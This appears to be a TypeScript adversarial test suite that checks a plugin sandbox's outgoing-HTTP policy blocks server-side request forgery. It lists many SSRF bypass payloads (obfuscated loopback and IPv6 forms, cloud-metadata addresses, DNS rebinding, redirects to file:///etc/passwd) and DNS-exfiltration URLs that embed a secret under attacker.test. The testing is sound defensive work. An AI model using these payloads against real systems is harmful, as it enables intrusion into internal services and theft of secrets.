// The standing adversarial suite, area "egress": outgoing HTTP attacks through a real plugin (relay.wat) loaded three
// times under real Cedar with the shipped base policies: "relay" holds a grant naming one loopback address and port
// (and one for the name rebind.test),
// "broad" an operator permit for every http.request, "bare" no http grant at all. Real servers listen on 127.0.0.1
// and [::1] only; DNS is a resolver the test injects, which counts every lookup. What must hold for every attack:
// no internal server is hit, no name that no policy permits is looked up, a denial is Cedar's (or the request is
// refused as malformed before), and no reply names an address a name resolved to.
import assert from "node:assert/strict";
import { join } from "node:path";
import { AuditLog } from "../../src/audit/mod.ts";
import { type CallerContext, createHostFunctions, FsCapability, KvStore } from "../../src/host/mod.ts";
import { compileGrants, PolicyEngine } from "../../src/policy/mod.ts";
import { PluginHost } from "../../src/runtime/mod.ts";
import { decoder, encoder, watFixture } from "../_test_utils.ts";
import { tally } from "./_tally.ts";

type Plugin = "relay" | "broad" | "bare";
type Reply = { ok: true; status: number; body: string } | { ok: false; code: string; message: string };

/** What a name resolves to in this test's DNS; nothing else resolves. */
const ZONE: Record<string, string[]> = {
  "rebind.test": ["127.0.0.1"],
  "localhost": ["127.0.0.1"],
  "localhost.": ["127.0.0.1"],
  "mapped.test": ["::ffff:127.0.0.1"],
  "compat.test": ["::127.0.0.1"],
  "nat64.test": ["64:ff9b::7f00:1"],
  "sixtofour.test": ["2002:7f00:1::"],
  "teredo.test": ["2001:0:4136:e378:8000:63bf:80ff:fffe"],
  "v6loop.test": ["::1"],
  "metadata.test": ["169.254.169.254"],
  "private.test": ["10.1.2.3"],
  "multi.test": ["127.0.0.1", "::1"],
  "octal.test": ["0177.0.0.1"],
  "short.test": ["127.1"],
  "zone.test": ["fe80::1%lo"],
};

Deno.test("adversarial egress: every door out of the plugin is decided by Cedar, with zero escapes", async () => {
  const t = tally("egress");
  let internalHits = 0;
  let internal6Hits = 0;
  const internal = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
    internalHits++;
    return new Response("INTERNAL-SECRET");
  });
  const internal6 = Deno.serve({ hostname: "::1", port: 0, onListen() {} }, () => {
    internal6Hits++;
    return new Response("INTERNAL6-SECRET");
  });
  const inPort = internal.addr.port;
  const in6Port = internal6.addr.port;
  const allowed = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    const to = new URL(request.url).searchParams.get("to");
    return to === null ? new Response("allowed") : new Response(null, { status: 302, headers: { location: to } });
  });
  const okPort = allowed.addr.port;

  const lookups: string[] = [];
  const resolve = (name: string) => {
    lookups.push(name);
    return Promise.resolve(ZONE[name] ?? []);
  };
  const outer = await Deno.makeTempDir({ prefix: "keycard-adv-egress-" });
  const schema = await Deno.readTextFile(new URL("../../policies/keycard.cedarschema", import.meta.url));
  const base = await Deno.readTextFile(new URL("../../policies/base.cedar", import.meta.url));
  const engine = await PolicyEngine.create({
    schema,
    sources: [
      { name: "base.cedar", text: base },
      {
        name: "grants/relay",
        text: compileGrants("relay", [
          { "http.request": { host: "127.0.0.1", port: okPort, methods: ["GET"] } },
          { "http.request": { host: "rebind.test" } },
        ]),
      },
      {
        name: "ops.cedar",
        text: 'permit (principal == Plugin::"broad", action == Action::"http.request", resource);',
      },
    ],
  });
  const audit = new AuditLog({ ringSize: 100_000, file: { path: join(outer, "audit.jsonl") } });
  const kv = await KvStore.open(join(outer, "kv.sqlite"));
  await Deno.mkdir(join(outer, "root"));
  const host = new PluginHost<CallerContext>({
    limits: { deadlineMs: 5000 },
    spareWorkers: 0,
    hostFunctions: createHostFunctions({
      engine,
      audit,
      fs: await FsCapability.open(join(outer, "root")),
      kv,
      http: { resolve, timeoutMs: 2000 },
    }),
  });
  for (const name of ["relay", "broad", "bare"]) {
    await host.load(await watFixture("relay"), { name, version: "1.0.0" });
  }

  async function call(plugin: Plugin, request: Record<string, unknown>): Promise<Reply> {
    const out = await host.invoke(plugin, "http_request", encoder.encode(JSON.stringify(request)));
    const payload = out.subarray(1);
    if (out[0] !== 0) return { ok: false, ...JSON.parse(decoder.decode(payload)) };
    const nul = payload.indexOf(0);
    return {
      ok: true,
      status: JSON.parse(decoder.decode(payload.subarray(0, nul))).status,
      body: decoder.decode(payload.subarray(nul + 1)),
    };
  }

  interface Expect {
    /** Acceptable error codes. @default {["denied"]} */
    codes?: string[];
    /** The deciding policy named in a denial. */
    policy?: RegExp;
    /** Names that must never reach the resolver. */
    unresolved?: string[];
    /** How many lookups the attack may make. @default {unchecked} */
    lookups?: number;
    /** Text the reply must never contain (resolved addresses). */
    hidden?: string[];
    /** Extra headers of the request. */
    headers?: Record<string, string>;
  }

  /** One attack: the request must be refused, no internal server hit, no forbidden lookup, nothing revealed. */
  function attack(name: string, plugin: Plugin, url: string, expect: Expect = {}): Promise<void> {
    return t.attack(name, async () => {
      const [hits, hits6, looked] = [internalHits, internal6Hits, lookups.length];
      const reply = await call(plugin, { url, method: "GET", headers: expect.headers ?? {} });
      assert.ok(!reply.ok, `${plugin} ${url} went through: ${JSON.stringify(reply)}`);
      assert.ok((expect.codes ?? ["denied"]).includes(reply.code), `${url}: ${reply.code} ${reply.message}`);
      if (expect.policy) assert.match(reply.message, expect.policy);
      assert.equal(internalHits, hits, "the internal server was hit");
      assert.equal(internal6Hits, hits6, "the internal [::1] server was hit");
      const made = lookups.slice(looked);
      for (const n of expect.unresolved ?? []) assert.ok(!made.includes(n), `"${n}" was looked up`);
      if (expect.lookups !== undefined) assert.equal(made.length, expect.lookups, `lookups: ${made}`);
      for (const text of expect.hidden ?? []) assert.ok(!reply.message.includes(text), `reveals ${text}`);
    });
  }

  const PRIVATE = /base\.http\.private-addresses/;
  try {
    // The positive control: the one granted address works for the plugin that names it.
    await t.attack("control: relay reaches its named address", async () => {
      const reply = await call("relay", { url: `http://127.0.0.1:${okPort}/` });
      assert.deepEqual(reply, { ok: true, status: 200, body: "allowed" });
    });

    // Address forms under a broad permit: the base forbids catch every one, with no lookup.
    const forms: [string, string][] = [
      ["dotted loopback", `127.0.0.1:${inPort}`],
      ["short IPv4 (127.1)", `127.1:${inPort}`],
      ["decimal IPv4", `2130706433:${inPort}`],
      ["hex IPv4", `0x7f000001:${inPort}`],
      ["hex and short IPv4 (0x7f.1)", `0x7f.1:${inPort}`],
      ["octal IPv4", `0177.0.0.1:${inPort}`],
      ["zero-padded octets", `127.000.000.001:${inPort}`],
      ["percent-encoded host", `%31%32%37.0.0.1:${inPort}`],
      ["full-width digits", `\uff11\uff12\uff17.0.0.1:${inPort}`],
      ["IPv6 loopback", `[::1]:${in6Port}`],
      ["IPv6 loopback, uncompressed", `[0:0:0:0:0:0:0:1]:${in6Port}`],
      ["IPv4-mapped, dotted", `[::ffff:127.0.0.1]:${inPort}`],
      ["IPv4-mapped, hex", `[::ffff:7f00:1]:${inPort}`],
      ["IPv4-compatible", `[::127.0.0.1]:${inPort}`],
      ["IPv4-translated (SIIT)", `[::ffff:0:127.0.0.1]:${inPort}`],
      ["NAT64 well-known prefix", `[64:ff9b::127.0.0.1]:${inPort}`],
      ["NAT64 local-use prefix", `[64:ff9b:1::7f00:1]:${inPort}`],
      ["NAT64 of the metadata address", `[64:ff9b::169.254.169.254]`],
      ["6to4 of loopback", `[2002:7f00:1::]:${inPort}`],
      ["6to4 of 10/8", `[2002:a00:1::1]`],
      ["Teredo, client 127.0.0.1", `[2001:0:4136:e378:8000:63bf:80ff:fffe]:${inPort}`],
      ["Teredo, client 10.0.0.1", `[2001:0:4136:e378:8000:63bf:f5ff:fffe]`],
      ["broadcast", `255.255.255.255:${inPort}`],
      ["unspecified IPv4", `0.0.0.0:${inPort}`],
      ["unspecified IPv6", `[::]:${in6Port}`],
      ["cloud metadata", "169.254.169.254"],
      ["cloud metadata, IPv4-mapped", "[::ffff:169.254.169.254]"],
      ["AWS metadata over IPv6 (ULA)", "[fd00:ec2::254]"],
      ["RFC 1918 10/8", "10.0.0.1"],
      ["RFC 1918 172.16/12", "172.16.0.1"],
      ["RFC 1918 192.168/16", "192.168.1.1"],
      ["CGNAT", "100.64.0.1"],
      ["IPv4 multicast", "224.0.0.1"],
      ["IPv6 multicast", "[ff02::1]"],
      ["IPv6 link-local", "[fe80::1]"],
      ["IPv6 site-local", "[fec0::1]"],
      ["IPv4 documentation", "192.0.2.1"],
      ["IPv6 documentation", "[2001:db8::1]"],
      ["benchmarking", "198.18.0.1"],
      ["reserved 240/4", "240.0.0.1"],
      ["6to4 relay anycast", "192.88.99.1"],
    ];
    for (const [name, authority] of forms) {
      await attack(`address form: ${name}`, "broad", `http://${authority}/`, { policy: PRIVATE, lookups: 0 });
    }
    await attack("https to loopback", "broad", `https://127.0.0.1:${inPort}/`, { policy: PRIVATE, lookups: 0 });

    // Names that resolve to internal addresses: permitted by name, refused by address, the address never told.
    const rebinding: [string, string, number][] = [
      ["rebind.test", "127.0.0.1", inPort],
      ["localhost", "127.0.0.1", inPort],
      ["localhost.", "127.0.0.1", inPort],
      ["mapped.test", "127.0.0.1", inPort],
      ["compat.test", "7f00", inPort],
      ["nat64.test", "64:ff9b", inPort],
      ["sixtofour.test", "2002:", inPort],
      ["teredo.test", "2001:0", inPort],
      ["v6loop.test", "::1", in6Port],
      ["metadata.test", "169.254", 80],
      ["private.test", "10.1.2.3", 80],
      ["multi.test", "127.0.0.1", inPort],
    ];
    for (const [name, address, port] of rebinding) {
      await attack(`name resolving inside: ${name}`, "broad", `http://${name}:${port}/`, {
        policy: PRIVATE,
        lookups: 1,
        hidden: [address],
      });
    }
    for (const name of ["octal.test", "short.test", "zone.test"]) {
      await attack(`resolver answers a non-canonical address: ${name}`, "broad", `http://${name}:${inPort}/`, {
        codes: ["unavailable"],
        lookups: 1,
        hidden: ZONE[name],
      });
    }

    // DNS exfiltration: a plugin without an http grant makes no lookup, whatever the URL.
    const secret = "c2VjcmV0LXRva2Vu";
    for (
      const url of [
        `http://${secret}.attacker.test/`,
        `https://${secret}.attacker.test/`,
        `http://${secret}.attacker.test:8443/x?y=1`,
        `http://${secret}.ATTACKER.test./`,
        `http://bücher-${secret}.attacker.test/`,
        `ftp://${secret}.attacker.test/`,
        `ws://${secret}.attacker.test/`,
        `http://rebind.test:${inPort}/`,
      ]
    ) {
      await attack(`no lookup without a grant: ${url}`, "bare", url, { codes: ["denied", "invalid"], lookups: 0 });
    }
    await attack("no lookup for a name outside the grant", "relay", `http://${secret}.attacker.test/`, {
      policy: /no policy permits/,
      lookups: 0,
    });
    await attack("a granted address by another name", "relay", `http://localhost:${okPort}/`, { lookups: 0 });

    // Redirects: every hop decided again, by name before any lookup, then by address.
    const via = (to: string) => `http://127.0.0.1:${okPort}/?to=${encodeURIComponent(to)}`;
    await attack("redirect to loopback", "relay", via(`http://127.0.0.1:${inPort}/`));
    await attack("redirect to IPv4-mapped", "relay", via(`http://[::ffff:127.0.0.1]:${inPort}/`));
    await attack("redirect to decimal", "relay", via(`http://2130706433:${inPort}/`));
    await attack("redirect to NAT64", "relay", via(`http://[64:ff9b::127.0.0.1]:${inPort}/`));
    await attack("redirect to metadata", "relay", via("http://169.254.169.254/latest/meta-data/"));
    await attack("redirect to an exfiltrating name", "relay", via(`http://${secret}.attacker.test/`), {
      lookups: 0,
      unresolved: [`${secret}.attacker.test`],
    });
    await attack(
      "redirect to a granted name that resolves to loopback",
      "relay",
      via(`http://rebind.test:${inPort}/`),
      {
        policy: PRIVATE,
        lookups: 1,
        hidden: ["127.0.0.1"],
      },
    );
    await attack("redirect to a name outside the grant", "relay", via(`http://localhost:${inPort}/`), { lookups: 0 });
    await attack("redirect to file:", "relay", via("file:///etc/passwd"), { codes: ["denied", "invalid"] });

    // Named addresses belong to the plugin whose grant names them.
    await attack("broad on relay's named address", "broad", `http://127.0.0.1:${okPort}/`, { policy: PRIVATE });
    await attack("broad on relay's named address, mapped", "broad", `http://[::ffff:7f00:1]:${okPort}/`, {
      policy: PRIVATE,
    });
    await attack("broad on relay's named address, decimal", "broad", `http://2130706433:${okPort}/`, {
      policy: PRIVATE,
    });
    await attack("bare on relay's named address", "bare", `http://127.0.0.1:${okPort}/`, { policy: PRIVATE });
    await attack("relay on another port of its address", "relay", `http://127.0.0.1:${inPort}/`);

    // Schemes, userinfo, headers.
    await attack("file: under a broad permit", "broad", "file:///etc/passwd", { policy: /base\.http\.schemes/ });
    await attack("gopher: to loopback", "broad", `gopher://127.0.0.1:${inPort}/_GET`, { codes: ["denied"] });
    await attack("data: URL", "broad", "data:text/plain,hi", { codes: ["denied"] });
    await attack("userinfo", "relay", `http://user:pass@127.0.0.1:${okPort}/`, { codes: ["invalid"] });
    await attack("userinfo hiding the host", "broad", `http://127.0.0.1:${okPort}@rebind.test:${inPort}/`, {
      codes: ["invalid"],
      lookups: 0,
    });
    await attack("host header override", "relay", `http://127.0.0.1:${okPort}/`, {
      codes: ["invalid"],
      headers: { host: `127.0.0.1:${inPort}` },
    });
    await t.attack("backslash authority stays on the granted host", async () => {
      const reply = await call("relay", { url: `http://127.0.0.1:${okPort}\\@127.0.0.1:${inPort}/` });
      assert.equal(internalHits, 0);
      assert.ok(!reply.ok || reply.body === "allowed", JSON.stringify(reply));
    });

    // Every decision was audited; nothing ever reached either internal server.
    await t.attack("zero internal hits, every decision audited", () => {
      assert.equal(internalHits, 0);
      assert.equal(internal6Hits, 0);
      const denied = audit.query({ action: "http.request", decision: "deny", limit: 100_000 });
      assert.ok(denied.length >= forms.length + rebinding.length, `${denied.length} denials`);
    });
  } finally {
    await host.close();
    await audit.close();
    kv.close();
    await allowed.shutdown();
    await internal.shutdown();
    await internal6.shutdown();
    await Deno.remove(outer, { recursive: true });
  }
  t.report();
});
